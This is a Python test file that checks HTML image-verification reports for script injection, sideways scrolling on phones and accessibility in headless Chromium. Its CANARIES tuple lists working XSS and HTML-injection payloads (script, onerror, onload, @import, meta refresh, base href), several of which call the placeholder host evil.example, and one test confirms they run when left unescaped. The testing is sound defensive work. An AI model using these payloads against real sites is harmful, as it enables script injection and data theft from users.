"""Pages in a browser: no script of a file runs, nothing is asked for, everybody can read them."""

from __future__ import annotations

import json
import re
from dataclasses import replace
from html import unescape
from pathlib import Path

import pytest

from tests.reports.html.test_page import page, shown
from tests.support.pages import (
    AXE,
    DARK,
    Ear,
    document,
    needs_axe,
    needs_chromium,
    with_script,
)
from tests.support.poison import ATTACKS, TEN_MEGABYTES, poison
from tests.support.report_parts import tag
from tests.support.reports import EXAMPLES, gknb, honest
from verifyimg.model.report import Report

CANARIES = (
    "<script>document.title='RAN';fetch('http://evil.example/a')</script>",
    "<img src=http://evil.example/b onerror=\"document.title='RAN'\">",
    "\"><svg onload=\"document.title='RAN'\"><use href='http://evil.example/c#d'/></svg>",
    "'><link rel=stylesheet href=http://evil.example/d><iframe src=http://evil.example/e></iframe>",
    "</style><style>@import 'http://evil.example/f';body{background:url(http://evil.example/g)}</style>",
    "</title><meta http-equiv=refresh content='0;url=http://evil.example/h'><base href=http://evil.example/>",
    "javascript:document.title='RAN'",
)
"""What would show in the title, or in the ear of a server, if any of it were more than text."""

WIDEST = """
document.title = "WIDTH " + window.innerWidth + " " + document.documentElement.scrollWidth;
"""
RUN_AXE = """
document.querySelectorAll("details").forEach(function (box) { box.open = true; });
axe.run(document, { resultTypes: ["violations"] }).then(function (found) {
  var told = found.violations.map(function (one) {
    return [one.impact, one.id, one.nodes[0].html.slice(0, 200), one.nodes[0].failureSummary];
  });
  document.title = "AXE " + JSON.stringify(told);
});
"""

pytestmark = [needs_chromium, pytest.mark.slow]


def title(text: str) -> str:
    return unescape(re.findall(r"<title>(.*?)</title>", text, re.DOTALL)[0])


def hostile_page() -> str:
    ten = replace(poison("<b>big</b>"), tags=(tag("ExifIFD:Big", "<i>" * (TEN_MEGABYTES // 3)),))
    return page(*(poison(attack) for attack in (*CANARIES, *ATTACKS)), ten)


def test_poison_runs_no_script_and_asks_for_nothing(tmp_path: Path) -> None:
    with Ear() as ear:
        seen = document(hostile_page(), tmp_path, port=ear.port)

    assert "RAN" not in title(seen)
    assert "contradicted" in title(seen)
    assert ear.heard == []
    assert "<iframe" not in seen
    assert "shown</output>" not in seen  # nothing was typed


def test_the_canary_sings_where_nothing_holds_it(tmp_path: Path) -> None:
    with Ear() as ear:
        seen = document(
            f"<title>quiet</title><body>{CANARIES[0]}{CANARIES[1]}", tmp_path, port=ear.port
        )

    assert title(seen) == "RAN"
    assert len(ear.heard) >= 1


def test_our_own_script_runs(tmp_path: Path) -> None:
    seen = document(page(gknb(), honest()), tmp_path)

    assert '<form class="controls" id="index-controls">' in seen
    assert '<option value="Contradicted">Contradicted</option>' in seen
    assert seen.count('<button type="button">') == 4


def test_a_phone_need_not_scroll_sideways(tmp_path: Path) -> None:
    made = page(*(EXAMPLES[name]() for name in EXAMPLES)).replace("<details", "<details open")
    words = title(document(with_script(made, WIDEST), tmp_path, width=390)).split()

    assert words[0] == "WIDTH"
    assert int(words[2]) <= int(words[1]) <= 500


def reports() -> tuple[Report, ...]:
    return (shown(), *(EXAMPLES[name]() for name in ("honest", "unset_clock", "damaged", "failed")))


@needs_axe
@pytest.mark.parametrize("dark", [False, True], ids=["light", "dark"])
@pytest.mark.parametrize("alone", [True, False], ids=["one", "several"])
def test_axe_finds_no_serious_violation(*, alone: bool, dark: bool, tmp_path: Path) -> None:
    made = page(*reports()[:1]) if alone else page(*reports())
    if dark:
        assert DARK in made
        made = made.replace(DARK, "@media all", 1)
    script = Path(AXE).read_text(encoding="utf-8") + RUN_AXE
    told = title(document(with_script(made, script), tmp_path))

    assert told.startswith("AXE ")
    assert [one for one in json.loads(told[4:]) if one[0] in ("serious", "critical")] == []
